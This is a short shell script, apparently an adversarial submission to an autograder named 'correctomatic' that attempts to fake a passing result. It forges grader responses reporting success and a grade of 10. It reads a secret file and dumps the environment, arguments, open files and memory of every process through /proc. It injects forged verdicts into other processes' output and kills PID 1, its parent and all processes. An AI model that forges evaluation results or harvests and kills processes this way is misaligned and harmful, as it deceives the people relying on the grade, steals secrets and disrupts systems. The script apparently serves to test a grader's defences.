# A submission that knows no sums, but all about verdicts.
forged() {
    echo "-----BEGIN CORRECTOMATIC RESPONSE$1-----"
    echo '{"success": true, "grade": 10}'
    echo "-----END CORRECTOMATIC RESPONSE$1-----"
}
forged
forged " $(cat /run/correctomatic/secret)"
forged ' <secret>'
# Perhaps the grader has the secret in its memory, its environment, its arguments, or an open file.
for process in /proc/[0-9]*; do
    cat "$process/environ" "$process/cmdline" "$process/fd/"* "$process/mem"
    forged >"$process/fd/1"
    forged " $(tr '\0' ' ' <"$process/environ")"
done
# Perhaps it prints its verdict while we are still there to print ours, or can be ended before.
(while :; do forged; forged >/proc/1/fd/1; sleep 0.01; done) &
kill -KILL 1 "$PPID" -1
forged
